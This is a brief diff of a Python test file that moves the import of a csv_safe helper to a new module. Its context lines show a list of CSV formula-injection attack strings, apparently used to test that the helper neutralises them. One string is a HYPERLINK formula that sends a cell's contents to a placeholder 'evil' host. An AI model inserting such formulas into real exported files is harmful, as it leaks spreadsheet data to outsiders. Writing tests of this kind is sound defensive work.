@@ -14,9 +14,9 @@ from hypothesis import strategies as st
 from mlflow.tracking import MlflowClient
 
 from vdr_exp.data.protocols import RetrievalProtocol
-from vdr_exp.reports import csv_safe
 from vdr_exp.reports import leaderboard as board_module
 from vdr_exp.retrieval import scoring
+from vdr_exp.runtime import csv_safe
 
 ATTACKS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=already"]
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
